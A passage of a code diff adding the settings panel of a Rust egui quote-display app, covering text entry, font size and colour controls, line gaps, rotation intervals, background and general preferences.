+                    Some(index) => format!("EDIT TEXT  [#{}]", index + 1),
+                    None => format!("ADD CUSTOM TEXT  [{}]", state.quotes.len() + 1),
+                },
+                None,
+                accents,
+                |ui| {
+                    // --- Main text input with A+/A-/color buttons to the right ---
+                    // Enter is a newline; Ctrl+Enter submits (taken before the
+                    // TextEdit sees it)
+                    let main_submit = ui.memory(|m| m.has_focus(state.main_text_input_id))
+                        && ui.input_mut(|i| {
+                            i.consume_key(egui::Modifiers::COMMAND, egui::Key::Enter)
+                        });
+                    ui.horizontal(|ui| {
+                        // Textarea on the left
+                        let text_width = (ui.available_width() - 80.0).max(50.0);
+                        let mut text_response = None;
+                        egui::Frame::none()
+                            .fill(Color32::from_black_alpha(60))
+                            .stroke(Stroke::new(1.0, accents.primary.gamma_multiply(0.2)))
+                            .rounding(Rounding::same(4.0))
+                            .show(ui, |ui| {
+                                let resp = ui.add(
+                                    egui::TextEdit::multiline(&mut state.main_text_input)
+                                        .id(state.main_text_input_id)
+                                        .hint_text("Main text... (Ctrl+Enter to add)")
+                                        .desired_rows(3)
+                                        .desired_width(text_width)
+                                        .lock_focus(true),
+                                );
+                                text_response = Some(resp);
+                            });
+
+                        let text_response = text_response.unwrap();
+                        if text_response.changed() {
+                            ui.ctx().request_repaint();
+                        }
+                        if text_response.has_focus() {
+                            state.last_text_input = Some(text_response.id);
+                        }
+                        if main_submit && state.submit_inputs() {
+                            text_response.request_focus();
+                        }
+
+                        // Buttons column on the right
+                        ui.vertical(|ui| {
+                            ui.horizontal(|ui| {
+                                if ui
+                                    .small_button(
+                                        RichText::new("A+").color(ui_fg(ui.visuals())).size(10.5),
+                                    )
+                                    .clicked()
+                                    && state.text_style.main_text_size < 100.0
+                                {
+                                    state.text_style.main_text_size += 2.0;
+                                    state.save();
+                                }
+                                // Color picker button
+                                let color_btn = ui.add(
+                                    egui::Button::new(
+                                        RichText::new("🎨").color(Color32::WHITE).size(13.0),
+                                    )
+                                    .fill(Color32::from_rgb(244, 67, 54))
+                                    .stroke(Stroke::new(1.0, Color32::WHITE.gamma_multiply(0.4)))
+                                    .min_size(Vec2::new(24.0, 20.0)),
+                                );
+                                if color_btn.clicked() {
+                                    state.show_main_color_picker = !state.show_main_color_picker;
+                                }
+                            });
+                            if ui
+                                .small_button(
+                                    RichText::new("A-").color(ui_fg(ui.visuals())).size(10.5),
+                                )
+                                .clicked()
+                                && state.text_style.main_text_size > 12.0
+                            {
+                                state.text_style.main_text_size -= 2.0;
+                                state.save();
+                            }
+                        });
+                    });
+
+                    render_char_counter(ui, &state.main_text_input, state.quote_max_chars);
+
+                    // Color picker popup for main text
+                    if state.show_main_color_picker {
+                        egui::Frame::none()
+                            .fill(Color32::from_black_alpha(40))
+                            .stroke(Stroke::new(1.0, accents.primary.gamma_multiply(0.25)))
+                            .inner_margin(Vec2::new(8.0, 8.0))
+                            .rounding(Rounding::same(4.0))
+                            .show(ui, |ui| {
+                                let mut color_arr = [
+                                    state.text_style.main_text_color.r(),
+                                    state.text_style.main_text_color.g(),
+                                    state.text_style.main_text_color.b(),
+                                    255u8,
+                                ];
+                                if ui
+                                    .color_edit_button_srgba_unmultiplied(&mut color_arr)
+                                    .changed()
+                                {
+                                    state.text_style.main_text_color =
+                                        Color32::from_rgb(color_arr[0], color_arr[1], color_arr[2]);
+                                    state.save();
+                                }
+                            });
+                    }
+
+                    ui.add_space(8.0);
+
+                    // --- Supporting text input with A+/A-/color buttons to the right ---
+                    let sub_submit = ui.memory(|m| m.has_focus(egui::Id::new(SUB_TEXT_INPUT_ID)))
+                        && ui.input_mut(|i| {
+                            i.consume_key(egui::Modifiers::COMMAND, egui::Key::Enter)
+                        });
+                    ui.horizontal(|ui| {
+                        let text_width = (ui.available_width() - 80.0).max(50.0);
+                        let mut sub_response = None;
+                        egui::Frame::none()
+                            .fill(Color32::from_black_alpha(60))
+                            .stroke(Stroke::new(1.0, accents.primary.gamma_multiply(0.2)))
+                            .rounding(Rounding::same(4.0))
+                            .show(ui, |ui| {
+                                let resp = ui
+                                    .add(
+                                        egui::TextEdit::multiline(&mut state.sub_text_input)
+                                            .id(egui::Id::new(SUB_TEXT_INPUT_ID))
+                                            .hint_text("Supporting text... (Ctrl+Enter to add)")
+                                            .desired_rows(2)
+                                            .desired_width(text_width),
+                                    )
+                                    .on_hover_text(SUB_TEXT_PLACEHOLDERS_HINT);
+                                sub_response = Some(resp);
+                            });
+
+                        let sub_response = sub_response.unwrap();
+                        if sub_response.changed() {
+                            ui.ctx().request_repaint();
+                        }
+                        if sub_response.has_focus() {
+                            state.last_text_input = Some(sub_response.id);
+                        }
+                        // Ctrl+Enter in either field adds; focus goes back to the main one
+                        if sub_submit && state.submit_inputs() {
+                            ui.memory_mut(|m| m.request_focus(state.main_text_input_id));
+                        }
+
+                        ui.vertical(|ui| {
+                            // Floating reference number at 45° top-right (outside frame)
+                            ui.horizontal(|ui| {
+                                if ui
+                                    .small_button(
+                                        RichText::new("A+").color(ui_fg(ui.visuals())).size(10.5),
+                                    )
+                                    .clicked()
+                                    && state.text_style.sub_text_size < 50.0
+                                {
+                                    state.text_style.sub_text_size += 1.0;
+                                    state.save();
+                                }
+                                let color_btn = ui.add(
+                                    egui::Button::new(
+                                        RichText::new("🎨").color(Color32::WHITE).size(13.0),
+                                    )
+                                    .fill(Color32::from_rgb(244, 67, 54))
+                                    .stroke(Stroke::new(1.0, Color32::WHITE.gamma_multiply(0.4)))
+                                    .min_size(Vec2::new(24.0, 20.0)),
+                                );
+                                if color_btn.clicked() {
+                                    state.show_sub_color_picker = !state.show_sub_color_picker;
+                                }
+                            });
+                            ui.horizontal(|ui| {
+                                if ui
+                                    .small_button(
+                                        RichText::new("A-").color(ui_fg(ui.visuals())).size(10.5),
+                                    )
+                                    .clicked()
+                                    && state.text_style.sub_text_size > 8.0
+                                {
+                                    state.text_style.sub_text_size -= 1.0;
+                                    state.save();
+                                }
+                                let emoji_btn = ui
+                                    .small_button(
+                                        RichText::new("☺").color(ui_fg(ui.visuals())).size(12.0),
+                                    )
+                                    .on_hover_text("Insert emoji");
+                                let popup_id = ui.make_persistent_id("emoji_picker");
+                                if emoji_btn.clicked() {
+                                    ui.memory_mut(|m| m.toggle_popup(popup_id));
+                                }
+                                egui::popup::popup_below_widget(
+                                    ui,
+                                    popup_id,
+                                    &emoji_btn,
+                                    egui::PopupCloseBehavior::CloseOnClickOutside,
+                                    |ui| render_emoji_picker(ui, state),
+                                );
+                            });
+                        });
+                    });
+
+                    render_char_counter(ui, &state.sub_text_input, state.quote_max_chars);
+
+                    // Color picker popup for sub text
+                    if state.show_sub_color_picker {
+                        egui::Frame::none()
+                            .fill(Color32::from_black_alpha(40))
+                            .stroke(Stroke::new(1.0, accents.primary.gamma_multiply(0.25)))
+                            .inner_margin(Vec2::new(8.0, 8.0))
+                            .rounding(Rounding::same(4.0))
+                            .show(ui, |ui| {
+                                let mut color_arr = [
+                                    state.text_style.sub_text_color.r(),
+                                    state.text_style.sub_text_color.g(),
+                                    state.text_style.sub_text_color.b(),
+                                    255u8,
+                                ];
+                                if ui
+                                    .color_edit_button_srgba_unmultiplied(&mut color_arr)
+                                    .changed()
+                                {
+                                    state.text_style.sub_text_color =
+                                        Color32::from_rgb(color_arr[0], color_arr[1], color_arr[2]);
+                                    state.save();
+                                }
+                            });
+                    }
+
+                    ui.add_space(8.0);
+
+                    // Translation input (optional second language)
+                    egui::Frame::none()
+                        .fill(Color32::from_black_alpha(60))
+                        .stroke(Stroke::new(1.0, accents.primary.gamma_multiply(0.2)))
+                        .rounding(Rounding::same(4.0))
+                        .show(ui, |ui| {
+                            ui.add(
+                                egui::TextEdit::singleline(&mut state.translation_input)
+                                    .hint_text("Translation... (optional)")
+                                    .desired_width(ui.available_width()),
+                            )
+                            .on_hover_text(
+                                "Shown as a third line, or in turns with the main text \
+                             (Theme → Translation)",
+                            );
+                        });
+
+                    ui.add_space(8.0);
+
+                    // Source link input (optional, http/https only)
+                    egui::Frame::none()
+                        .fill(Color32::from_black_alpha(60))
+                        .stroke(Stroke::new(1.0, accents.primary.gamma_multiply(0.2)))
+                        .rounding(Rounding::same(4.0))
+                        .show(ui, |ui| {
+                            ui.add(
+                                egui::TextEdit::singleline(&mut state.source_url_input)
+                                    .hint_text("Source link... (optional, https://...)")
+                                    .desired_width(ui.available_width()),
+                            );
+                        });
+
+                    ui.add_space(8.0);
+
+                    // Tags input (comma separated, used by schedule profiles)
+                    egui::Frame::none()
+                        .fill(Color32::from_black_alpha(60))
+                        .stroke(Stroke::new(1.0, accents.primary.gamma_multiply(0.2)))
+                        .rounding(Rounding::same(4.0))
+                        .show(ui, |ui| {
+                            ui.add(
+                                egui::TextEdit::singleline(&mut state.tag_input)
+                                    .hint_text("Tags... (comma separated, e.g. gym, morning)")
+                                    .desired_width(ui.available_width()),
+                            );
+                        });
+
+                    ui.add_space(8.0);
+
+                    let issue = state.input_issue();
+                    match issue {
+                        Some(InputIssue::TooLong) => {
+                            ui.label(
+                                RichText::new(format!(
+                                    "Too long: keep each text to {} characters",
+                                    state.quote_max_chars
+                                ))
+                                .color(NEON_ROSE)
+                                .size(10.5),
+                            );
+                        }
+                        Some(InputIssue::Duplicate) => {
+                            ui.label(
+                                RichText::new("⚠ This text is already in the collection")
+                                    .color(NEON_SOLAR)
+                                    .size(10.5),
+                            );
+                        }
+                        Some(InputIssue::BadUrl) => {
+                            ui.label(
+                                RichText::new("Source link must start with http:// or https://")
+                                    .color(NEON_ROSE)
+                                    .size(10.5),
+                            );
+                        }
+                        Some(InputIssue::Empty) | None => {}
+                    }
+
+                    // Add button, greyed out while the inputs can't be added
+                    let blocked = issue.is_some_and(InputIssue::blocks_submit);
+                    let add_btn_color = if blocked {
+                        Color32::from_gray(90)
+                    } else {
+                        Color32::from_rgb(76, 175, 80)
+                    };
+                    let add_clicked = ui
+                        .add_enabled_ui(!blocked, |ui| {
+                            draw_text_button(
+                                ui,
+                                if state.editing_quote.is_some() {
+                                    "Save Changes"
+                                } else {
+                                    "+ Add Text"
+                                },
+                                add_btn_color,
+                                ui.available_width() - 8.0,
+                                32.0,
+                                accents.primary,
+                            )
+                            .on_hover_text(format!(
+                                "{} adds a quote from any app",
+                                QUICK_ADD_HOTKEY_LABEL
+                            ))
+                            .clicked()
+                        })
+                        .inner;
+                    if add_clicked && state.submit_inputs() {
+                        ui.memory_mut(|m| m.request_focus(state.main_text_input_id));
+                    }
+                    if state.editing_quote.is_some() && ui.small_button("Cancel").clicked() {
+                        state.cancel_quote_edit();
+                    }
+                },
+            );
+
+            ui.add_space(10.0);
+
+            // ===== Line Gaps Section =====
+            let summary = Some(format!(
+                "{:.1} / {:.1} / {:.0} px",
+                state.text_style.main_line_gap,
+                state.text_style.sub_line_gap,
+                state.text_style.between_gap
+            ));
+            render_section(
+                ui,
+                &mut sections,
+                "line_gaps",
+                "LINE GAPS",
+                summary,
+                accents,
+                |ui| {
+                    ui.horizontal(|ui| {
+                        label_with_glow(
+                            ui,
+                            "Main Text Gap",
+                            fg,
+                            10.5,
+                            shade(140),
+                            egui::Align2::LEFT_CENTER,
+                        );
+
+                        // Add flexible space to push the label to the right
+                        ui.with_layout(egui::Layout::right_to_left(egui::Align::Center), |ui| {
+                            label_with_glow(
+                                ui,
+                                &format!("{:.1}", state.text_style.main_line_gap),
+                                NEON_LIME,
+                                10.5,
+                                shade(120),
+                                egui::Align2::RIGHT_CENTER,
+                            );
+
+                            // The slider takes the remaining width
+                            let slider_width = ui.available_width();
+                            if ui
+                                .add_sized(
+                                    [slider_width, ui.available_height()],
+                                    egui::Slider::new(
+                                        &mut state.text_style.main_line_gap,
+                                        1.0..=3.0,
+                                    )
+                                    .step_by(0.1)
+                                    .text(""),
+                                )
+                                .changed()
+                            {
+                                state.save();
+                            }
+                        });
+                    });
+
+                    ui.horizontal(|ui| {
+                        label_with_glow(
+                            ui,
+                            "Supporting Text Gap",
+                            fg,
+                            10.5,
+                            shade(140),
+                            egui::Align2::LEFT_CENTER,
+                        );
+
+                        ui.with_layout(egui::Layout::right_to_left(egui::Align::Center), |ui| {
+                            label_with_glow(
+                                ui,
+                                &format!("{:.1}", state.text_style.sub_line_gap),
+                                NEON_LIME,
+                                10.5,
+                                shade(120),
+                                egui::Align2::RIGHT_CENTER,
+                            );
+                            let slider_width = ui.available_width();
+                            if ui
+                                .add_sized(
+                                    [slider_width, ui.available_height()],
+                                    egui::Slider::new(
+                                        &mut state.text_style.sub_line_gap,
+                                        1.0..=3.0,
+                                    )
+                                    .step_by(0.1)
+                                    .text(""),
+                                )
+                                .changed()
+                            {
+                                state.save();
+                            }
+                        });
+                    });
+
+                    ui.horizontal(|ui| {
+                        label_with_glow(
+                            ui,
+                            "Gap Between Texts",
+                            fg,
+                            10.5,
+                            shade(140),
+                            egui::Align2::LEFT_CENTER,
+                        );
+
+                        ui.with_layout(egui::Layout::right_to_left(egui::Align::Center), |ui| {
+                            label_with_glow(
+                                ui,
+                                &format!("{:.0} px", state.text_style.between_gap),
+                                NEON_LIME,
+                                10.5,
+                                shade(120),
+                                egui::Align2::RIGHT_CENTER,
+                            );
+                            let slider_width = ui.available_width();
+                            if ui
+                                .add_sized(
+                                    [slider_width, ui.available_height()],
+                                    egui::Slider::new(
+                                        &mut state.text_style.between_gap,
+                                        0.0..=50.0,
+                                    )
+                                    .step_by(1.0)
+                                    .text(""),
+                                )
+                                .changed()
+                            {
+                                state.save();
+                            }
+                        });
+                    });
+
+                    if ui
+                        .checkbox(&mut state.text_style.auto_fit, "Auto-fit text to window")
+                        .on_hover_text("Shrink long quotes to fit; text sizes act as the maximum")
+                        .changed()
+                    {
+                        state.save();
+                    }
+                },
+            );
+
+            ui.add_space(10.0);
+
+            // ===== Interval Section =====
+            let summary = Some(format!(
+                "{}s, {}",
+                state.interval_secs,
+                if state.rotation_enabled {
+                    "streaming"
+                } else {
+                    "paused"
+                }
+            ));
+            render_section(
+                ui,
+                &mut sections,
+                "interval",
+                "INTERVAL (SECONDS)",
+                summary,
+                accents,
+                |ui| {
+                    ui.horizontal(|ui| {
+                        let frame_response = egui::Frame::none()
+                            .fill(Color32::from_black_alpha(80))
+                            .stroke(Stroke::new(1.0, accents.primary.gamma_multiply(0.4)))
+                            .rounding(Rounding::same(4.0))
+                            .show(ui, |ui| {
+                                ui.add(
+                                    egui::DragValue::new(&mut state.interval_secs)
+                                        .range(1..=MAX_INTERVAL_SECS),
+                                )
+                            });
+                        let interval_resp = frame_response.inner;
+                        if interval_resp.changed() {
+                            // Clamp logic
+                            state.interval_secs = state.interval_secs.clamp(1, MAX_INTERVAL_SECS);
+                        }
+                        if interval_resp.lost_focus()
+                            && ui.input(|i| i.key_pressed(egui::Key::Enter))
+                        {
+                            state.set_interval(state.interval_secs); // Restart
+                        }
+
+                        label_with_glow(
+                            ui,
+                            "seconds",
+                            Color32::from_rgb(140, 200, 255),
+                            10.5,
+                            shade(120),
+                            egui::Align2::LEFT_CENTER,
+                        );
+                    });
+
+                    ui.add_space(6.0);
+
+                    // Preset chips: click applies, right-click / long-press stores the value above
+                    let active_secs = state.rotation_interval.as_secs();
+                    let mut apply = None;
+                    let mut overwrite = None;
+                    ui.horizontal_wrapped(|ui| {
+                        ui.spacing_mut().item_spacing = Vec2::new(4.0, 4.0);
+                        for (idx, &secs) in state.interval_presets.iter().enumerate() {
+                            let active = secs == active_secs;
+                            let chip = ui
+                                .selectable_label(
+                                    active,
+                                    RichText::new(
+                                        state.numeral_system.digits(&format_interval(secs)),
+                                    )
+                                    .color(if active { accents.primary } else { fg })
+                                    .size(10.5),
+                                )
+                                .on_hover_text(
+                                    "Right-click or long-press to store the value above",
+                                );
+                            if chip.clicked() {
+                                apply = Some(secs);
+                            } else if chip.secondary_clicked() || chip.long_touched() {
+                                overwrite = Some(idx);
+                            }
+                        }
+                    });
+                    if let Some(secs) = apply {
+                        state.set_interval(secs);
+                    }
+                    if let Some(idx) = overwrite {
+                        state.interval_presets[idx] =
+                            state.interval_secs.clamp(1, MAX_INTERVAL_SECS);
+                        state.save();
+                    }
+
+                    ui.add_space(6.0);
+
+                    ui.horizontal(|ui| {
+                        label_with_glow(
+                            ui,
+                            "Order:",
+                            Color32::from_rgb(140, 200, 255),
+                            10.5,
+                            shade(120),
+                            egui::Align2::LEFT_CENTER,
+                        );
+                        let mut mode = state.rotation_mode;
+                        egui::ComboBox::from_id_salt("rotation_mode")
+                            .selected_text(mode.label())
+                            .show_ui(ui, |ui| {
+                                for option in RotationMode::ALL {
+                                    ui.selectable_value(&mut mode, option, option.label());
+                                }
+                            });
+                        if mode != state.rotation_mode {
+                            state.rotation_mode = mode;
+                            state.save();
+                        }
+                    });
+
+                    // Energy matching: a weighting layer, so random order only
+                    if state.rotation_mode == RotationMode::Random {
+                        render_energy_bands(ui, state);
+                    }
+
+                    ui.horizontal(|ui| {
+                        label_with_glow(
+                            ui,
+                            "Timing:",
+                            Color32::from_rgb(140, 200, 255),
+                            10.5,
+                            shade(120),
+                            egui::Align2::LEFT_CENTER,
+                        );
+                        let mut sync = state.rotation_sync;
+                        egui::ComboBox::from_id_salt("rotation_sync")
+                            .selected_text(sync.label())
+                            .show_ui(ui, |ui| {
+                                for option in RotationSync::ALL {
+                                    ui.selectable_value(&mut sync, option, option.label());
+                                }
+                            });
+                        if sync != state.rotation_sync {
+                            state.rotation_sync = sync;
+                            state.restart_rotation();
+                            state.save();
+                        }
+                    })
+                    .response
+                    .on_hover_text(
+                        "On the clock: a 60s interval changes on every :00, \
+                     300s every five minutes",
+                    );
+
+                    ui.horizontal(|ui| {
+                        let toggled = ui
+                            .checkbox(&mut state.reading_time_interval, "Longer for long quotes")
+                            .on_hover_text("Keep a quote up until it has had time to be read")
+                            .changed();
+                        let wpm = ui
+                            .add_enabled(
+                                state.reading_time_interval,
+                                egui::DragValue::new(&mut state.reading_wpm)
+                                    .range(60..=1000)
+                                    .suffix(" wpm"),
+                            )
+                            .on_hover_text("Reading speed, words a minute");
+                        let cpm = ui
+                            .add_enabled(
+                                state.reading_time_interval,
+                                egui::DragValue::new(&mut state.reading_bengali_cpm)
+                                    .range(100..=3000)
+                                    .suffix(" Bengali cpm"),
+                            )
+                            .on_hover_text("Bengali reading speed, characters a minute");
+                        if toggled || wpm.changed() || cpm.changed() {
+                            state.save();
+                        }
+                    });
+
+                    ui.add_space(8.0);
+
+                    if draw_text_button(
+                        ui,
+                        "Set Interval",
+                        Color32::from_rgb(33, 150, 243),
+                        ui.available_width() - 8.0,
+                        28.0,
+                        accents.primary,
+                    )
+                    .clicked()
+                    {
+                        state.set_interval(state.interval_secs); // RESTART TIMER
+                        ui.ctx().request_repaint();
+                    }
+
+                    ui.add_space(8.0);
+
+                    // Toggle rotation
+                    let (toggle_text, toggle_color) = if state.rotation_enabled {
+                        ("⏸ Pause Rotation", Color32::from_rgb(255, 152, 0))
+                    } else {
+                        ("▶ Resume Rotation", Color32::from_rgb(76, 175, 80))
+                    };
+
+                    if draw_text_button(
+                        ui,
+                        toggle_text,
+                        toggle_color,
+                        ui.available_width() - 8.0,
+                        28.0,
+                        accents.primary,
+                    )
+                    .clicked()
+                    {
+                        state.rotation_enabled = !state.rotation_enabled;
+                        if state.rotation_enabled {
+                            state.restart_rotation();
+                        }
+                    }
+                },
+            );
+
+            ui.add_space(10.0);
+
+            // ===== 3D Background Section =====
+            if state.is_3d_bg_active {
+                let summary = Some(format!("{} particles", state.background.particle_count));
+                render_section(
+                    ui,
+                    &mut sections,
+                    "background",
+                    "BACKGROUND",
+                    summary,
+                    accents,
+                    |ui| {
+                        let bg = &mut state.background;
+                        let mut commit = false;
+                        let mut slider_row =
+                            |ui: &mut egui::Ui, label: &str, slider: egui::Slider| {
+                                ui.horizontal(|ui| {
+                                    ui.label(RichText::new(label).color(Color32::GRAY).size(11.0));
+                                    let resp = ui.add(slider);
+                                    commit |=
+                                        resp.drag_stopped() || (resp.changed() && !resp.dragged());
+                                });
+                            };
+                        slider_row(
+                            ui,
+                            "Particles:",
+                            egui::Slider::new(
+                                &mut bg.particle_count,
+                                BackgroundConfig::PARTICLE_RANGE,
+                            )
+                            .step_by(50.0),
+                        );
+                        slider_row(
+                            ui,
+                            "Bloom:",
+                            egui::Slider::new(&mut bg.bloom_intensity, 0.0..=1.0),
+                        );
+                        slider_row(
+                            ui,
+                            "Speed:",
+                            egui::Slider::new(&mut bg.rotation_speed, 0.0..=3.0).suffix("×"),
+                        );
+                        commit |= ui
+                            .checkbox(&mut bg.show_overlay, "Show \"A E T H E R\" text")
+                            .changed();
+                        if commit {
+                            state.save();
+                        }
+                    },
+                );
+
+                ui.add_space(10.0);
+            }
+
+            // ===== General Settings Section =====
+            render_section(
+                ui,
+                &mut sections,
+                "general",
+                "GENERAL",
+                None,
+                accents,
+                |ui| {
+                    ui.horizontal(|ui| {
+                        label_with_glow(
+                            ui,
+                            "On startup show:",
+                            Color32::from_rgb(140, 200, 255),
+                            10.5,
+                            shade(120),
+                            egui::Align2::LEFT_CENTER,
+                        );
+                        let mut policy = state.startup_quote;
+                        egui::ComboBox::from_id_salt("startup_quote")
+                            .selected_text(policy.label())
+                            .show_ui(ui, |ui| {
+                                for option in StartupPolicy::ALL {
+                                    ui.selectable_value(&mut policy, option, option.label());
+                                }
+                            });
+                        if policy != state.startup_quote {
+                            state.startup_quote = policy;
+                            state.save();
+                        }
+                    });
+
+                    ui.horizontal(|ui| {
+                        label_with_glow(
+                            ui,
+                            "Hold rotation when idle for:",
+                            Color32::from_rgb(140, 200, 255),
+                            10.5,
+                            shade(120),
+                            egui::Align2::LEFT_CENTER,
+                        );
+                        let mut minutes = state.idle_pause_secs / 60;
+                        let resp = ui
+                            .add(
+                                egui::DragValue::new(&mut minutes)
+                                    .range(0..=240)
+                                    .suffix(" min"),
+                            )
+                            .on_hover_text("0 = never (a locked session still holds)");
+                        if resp.changed() {
+                            state.idle_pause_secs = minutes * 60;
+                            state.save();
+                        }
+                    });
+
+                    ui.horizontal(|ui| {
+                        label_with_glow(
+                            ui,
+                            "When a quote arrives:",
+                            Color32::from_rgb(140, 200, 255),
+                            10.5,
+                            shade(120),
+                            egui::Align2::LEFT_CENTER,
+                        );
+                        let mut cue = state.attention_cue;
+                        egui::ComboBox::from_id_salt("attention_cue")
+                            .selected_text(cue.label())
+                            .show_ui(ui, |ui| {
+                                for option in AttentionCue::ALL {
+                                    ui.selectable_value(&mut cue, option, option.label());
+                                }
+                            });
+                        if cue != state.attention_cue {
+                            state.attention_cue = cue;
+                            state.save();
+                        }
+                    });
+
+                    ui.horizontal(|ui| {
+                        let toggled = ui
+                            .checkbox(&mut state.cursor_autohide, "Hide the resting cursor after")
+                            .on_hover_text(
+                                "Only over the quote itself; any movement shows it again",
+                            )
+                            .changed();
+                        let resp = ui.add_enabled(
+                            state.cursor_autohide,
+                            egui::DragValue::new(&mut state.cursor_hide_secs)
+                                .range(1..=60)
+                                .suffix(" s"),
+                        );
+                        if toggled || resp.changed() {
+                            state.save();
+                        }
+                    });
+
+                    ui.horizontal(|ui| {
+                        label_with_glow(
+                            ui,
+                            "PREV/NEXT buttons:",
+                            Color32::from_rgb(140, 200, 255),
+                            10.5,
+                            shade(120),
+                            egui::Align2::LEFT_CENTER,
+                        );
+                        let mut visibility = state.nav_visibility;
+                        let mut position = state.nav_position;
+                        egui::ComboBox::from_id_salt("nav_visibility")
+                            .selected_text(visibility.label())
+                            .show_ui(ui, |ui| {
+                                for option in NavVisibility::ALL {
+                                    ui.selectable_value(&mut visibility, option, option.label());
+                                }
+                            });
+                        ui.add_enabled_ui(visibility != NavVisibility::Never, |ui| {
+                            egui::ComboBox::from_id_salt("nav_position")
+                                .selected_text(position.label())
+                                .show_ui(ui, |ui| {
+                                    for option in NavPosition::ALL {
+                                        ui.selectable_value(&mut position, option, option.label());
+                                    }
+                                });
+                        });
+                        if (visibility, position) != (state.nav_visibility, state.nav_position) {
+                            state.nav_visibility = visibility;
+                            state.nav_position = position;
+                            state.save();
+                        }
+                    });
+
+                    ui.horizontal(|ui| {
+                        label_with_glow(
+                            ui,
+                            "Live preview:",
+                            Color32::from_rgb(140, 200, 255),
+                            10.5,
+                            shade(120),
+                            egui::Align2::LEFT_CENTER,
+                        );
+                        let mut style = state.preview_style;
+                        egui::ComboBox::from_id_salt("preview_style")
+                            .selected_text(style.label())
+                            .show_ui(ui, |ui| {
+                                for option in PreviewStyle::ALL {
+                                    ui.selectable_value(&mut style, option, option.label());
+                                }
+                            })
+                            .response
+                            .on_hover_text(
+                                "Marked frames the preview with a dashed border and a tag",
+                            );
+                        if style != state.preview_style {
+                            state.preview_style = style;
+                            state.save();
+                        }
+                    });
+
+                    ui.horizontal(|ui| {
+                        label_with_glow(
+                            ui,
+                            "Numerals:",
+                            Color32::from_rgb(140, 200, 255),
+                            10.5,
+                            shade(120),
+                            egui::Align2::LEFT_CENTER,
+                        );
+                        let mut numerals = state.numeral_system;
+                        egui::ComboBox::from_id_salt("numeral_system")
+                            .selected_text(numerals.label())
+                            .show_ui(ui, |ui| {
+                                for option in NumeralSystem::ALL {
+                                    ui.selectable_value(&mut numerals, option, option.label());
+                                }
+                            })
+                            .response
+                            .on_hover_text("Counter, Δt, intervals and streak; inputs stay 123");
+                        if numerals != state.numeral_system {
+                            state.numeral_system = numerals;
+                            state.save();
+                        }
+                    });
+
+                    if ui
+                        .checkbox(&mut state.roulette_theme, "🎲 also changes the theme")
+                        .on_hover_text("Surprise me picks a random gradient preset and angle too")
+                        .changed()
+                    {
+                        state.save();
+                    }
+
+                    ui.horizontal(|ui| {
+                        label_with_glow(
+                            ui,
+                            "Open on:",
+                            Color32::from_rgb(140, 200, 255),
+                            10.5,
+                            shade(120),
+                            egui::Align2::LEFT_CENTER,
+                        );
+                        let mut placement = state.window_placement;
+                        egui::ComboBox::from_id_salt("window_placement")
+                            .selected_text(placement.label())
+                            .show_ui(ui, |ui| {
+                                for option in WindowPlacement::ALL {
+                                    ui.selectable_value(&mut placement, option, option.label());
+                                }
+                            });
+                        if placement != state.window_placement {
+                            state.window_placement = placement;
+                            state.save();
+                        }
+                    });
+
+                    ui.horizontal(|ui| {
+                        label_with_glow(
+                            ui,
+                            "Low power:",
+                            Color32::from_rgb(140, 200, 255),
+                            10.5,
+                            shade(120),
+                            egui::Align2::LEFT_CENTER,
+                        );
+                        let mut mode = state.low_power.mode;
+                        egui::ComboBox::from_id_salt("low_power_mode")
+                            .selected_text(mode.label())
+                            .show_ui(ui, |ui| {
+                                for option in LowPowerMode::ALL {
+                                    ui.selectable_value(&mut mode, option, option.label());
+                                }
+                            });
+                        if mode != state.low_power.mode {
+                            state.low_power.mode = mode;
+                            state.save();
+                        }
+                    });
+                    if state.low_power.mode != LowPowerMode::Off {
+                        ui.indent("low_power_options", |ui| {
+                            let low_power = &mut state.low_power;
+                            let mut changed = false;
+                            changed |= ui
+                                .checkbox(
+                                    &mut low_power.pause_background,
+                                    "Pause the 3D background",
+                                )
+                                .changed();
+                            changed |= ui
+                                .checkbox(&mut low_power.slow_repaint, "Redraw less often")
+                                .changed();
+                            changed |= ui
+                                .checkbox(&mut low_power.still_transitions, "Skip transitions")
+                                .on_hover_text("Content rotation snaps; no attention cue")
+                                .changed();
+                            if changed {
+                                state.save();
+                            }
+                            let status = match (state.low_power_active, state.on_battery) {
+                                (true, _) => "Active now",
+                                (false, Some(false)) => "On AC power",
+                                (false, _) => "Inactive",
+                            };
+                            ui.label(RichText::new(status).color(Color32::GRAY).size(9.5));
+                        });
+                    }
+
+                    ui.horizontal(|ui| {
+                        ui.label(RichText::new("UI scale").color(Color32::GRAY).size(11.0));
+                        // Dragged on a draft and applied on release: rescaling
+                        // mid-drag would move the slider under the pointer
+                        let draft_id = ui.id().with("ui_scale_draft");
+                        let mut scale = ui
+                            .data(|d| d.get_temp::<f32>(draft_id))
+                            .unwrap_or(state.ui_scale);
+                        let resp = ui
+                            .add(
+                                egui::Slider::new(&mut scale, UI_SCALE_RANGE)
+                                    .custom_formatter(|v, _| format!("{:.0}%", v * 100.0))
+                                    .step_by(UI_SCALE_STEP as f64),
+                            )
+                            .on_hover_text("Ctrl+Shift+Plus / Ctrl+Shift+Minus");
+                        if resp.drag_stopped() || (resp.changed() && !resp.dragged()) {
+                            ui.data_mut(|d| d.remove::<f32>(draft_id));
+                            state.ui_scale = scale;
+                            state.save();
+                        } else if resp.dragged() {
+                            ui.data_mut(|d| d.insert_temp(draft_id, scale));
+                        }
+                    });
+
+                    ui.horizontal(|ui| {
+                        ui.label(
+                            RichText::new("Max text length")
+                                .color(Color32::GRAY)
+                                .size(11.0),
+                        );
+                        let resp = ui
+                            .add(
+                                egui::DragValue::new(&mut state.quote_max_chars)
+                                    .range(QUOTE_MAX_CHARS_RANGE)
+                                    .speed(5.0)
+                                    .suffix(" chars"),
+                            )
+                            .on_hover_text("Longest main or supporting text the add form accepts");
+                        if resp.drag_stopped() || (resp.changed() && !resp.dragged()) {
+                            state.save();
+                        }
+                    });
+
+                    if ui
+                        .checkbox(&mut state.clean_quote_text, "Clean up pasted text")
+                        .on_hover_text(
+                            "Odd spaces, stray zero-width characters, smart quotes and \
+                         Windows line endings are tidied when a quote is added, \
+                         imported or edited",
+                        )
+                        .changed()
+                    {
+                        state.save();
+                    }
+
+                    if ui
+                        .checkbox(&mut state.quote_in_title, "Quote as window title")
+                        .on_hover_text(
+                            "The taskbar and Alt+Tab show the start of the current quote. \
+                         Turn off to keep quotes private.",
+                        )
+                        .changed()
+                    {
+                        state.save();
+                    }
+
+                    ui.horizontal(|ui| {
+                        if ui
+                            .checkbox(&mut state.focus_dim, "Dim when unfocused")
+                            .on_hover_text(
+                                "Fades while another app has focus; hover to bring it back",
+                            )
